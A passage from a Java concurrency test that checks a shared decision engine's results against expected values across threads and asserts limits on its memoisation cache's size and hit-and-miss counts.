              Decision d = shared.decide(requests.get(k));
              if (!d.equals(expected.get(k))) {
                throw new AssertionError("request " + k + ": " + d + " != " + expected.get(k));
              }
              last.set(k, d);
            }
          }
          return last;
        }));
      }
      for (var f : futures) {
        assertThat(f.get()).isEqualTo(expected);
      }
    }
    assertThat(shared.memoStats().size()).isLessThanOrEqualTo(16);
    if (memoEntries > 0) {
      assertThat(shared.memoStats().hits() + shared.memoStats().misses()).isEqualTo((long) threads * rounds * requests.size());
    }
  }
}
